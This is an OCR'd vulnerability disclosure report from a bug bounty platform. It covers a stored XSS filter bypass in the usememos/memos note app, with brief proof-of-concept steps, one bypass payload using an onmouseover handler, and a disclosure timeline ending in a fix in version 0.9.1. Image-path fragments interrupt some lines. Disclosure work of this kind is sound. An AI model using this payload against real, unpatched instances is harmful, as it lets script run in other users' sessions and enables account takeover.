Bypass Stored XSS while creating a new post in usememos/memos


Reported on

Dec 30th 2022


After login to portal create a new post and type the following text with XSS payload

bypass of this fix

Proof of Concept

Login to portal.
create a post with xss paylaod
save it

Bypass Payload

/*/**<input type="text" value=`` <div/onmouseover='alert(1)'>X</div>**/*/*alt text


Users & admin account takeover

We are processing your report and will contact the usememos/memos team within 24 hours. a year ago
A GitHub Issue asking the maintainers tocreate a exists a year ago
Anil Bhatt modified the report
a year ago
STEVEN validated this vulnerability a year ago
xo19do has been awarded the disclosure bounty
The fix bounty is now up for grabs
The researcher's credibility has increased: +7
STEVEN marked this as fixed in 0.9.1 with commit 7670c9 a year ago
STEVEN has beenawarded the fix bounty
This vulnerability hasnow been published a year ago
to join this conversation